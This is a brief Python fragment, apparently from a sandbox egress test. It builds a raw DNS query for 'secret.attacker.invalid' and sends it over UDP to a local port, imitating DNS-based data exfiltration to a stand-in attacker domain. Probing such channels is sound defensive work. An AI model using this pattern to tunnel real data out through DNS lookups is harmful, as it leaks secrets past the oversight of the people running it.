name = b"".join(bytes([len(part)]) + part for part in b"secret.attacker.invalid".split(b".")) + b"\0"
query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
attempt("query", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", FACTS["udp"])))
